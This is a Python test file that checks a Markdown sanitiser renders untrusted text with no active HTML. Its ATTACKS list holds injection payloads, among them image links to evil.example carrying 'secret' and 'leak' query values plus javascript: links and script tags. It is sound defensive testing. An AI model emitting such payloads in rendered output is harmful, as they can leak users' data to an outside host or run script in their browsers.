"""Untrusted text stays text, whatever a Markdown renderer makes of it."""

from __future__ import annotations

import html
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from banso.ui.inert import inert, one_line

MARKDOWN = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
ATTACKS = [
    "![x](https://evil.example/?q=secret)",
    "[click](javascript:alert(1))",
    "<img src=https://evil.example/x.png>",
    "<script>alert(1)</script>",
    "https://evil.example/?leak=1 www.evil.example mail@evil.example",
    "[ref]: https://evil.example\n\n![x][ref]",
    "<https://evil.example>",
    "```html\n<img src=x>\n```",
    "|a|b|\n|-|-|\n|![x](//evil.example/a.png)|b|",
    "&lt;img src=x&gt; &#60;img&#62;",
    "\\![x](https://evil.example)",
    "# heading\n> quote\n- list\n1. one",
]


def rendered(text: str) -> str:
    return str(MARKDOWN.render(inert(text)))


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_acts_comes_out(attack: str) -> None:
    tags = set(re.findall(r"<(\w+)", rendered(attack)))
    assert tags <= {"p", "br"}


@given(st.text(alphabet=st.sampled_from("ab あ![]()<>`*_#|~:/.@&;\\-+1\n\"'="), max_size=60))
def test_any_mixture_stays_text_and_reads_as_written(text: str) -> None:
    page = rendered(text)
    assert set(re.findall(r"<(\w+)", page)) <= {"p", "br"}
    assert "".join(html.unescape(re.sub(r"<[^>]*>", "", page)).split()) == "".join(text.split())


def test_one_line_cuts_with_an_ellipsis() -> None:
    assert one_line("a\n b\tc") == "a b c"
    assert one_line("あ" * 100, 10) == "あ" * 9 + "…"
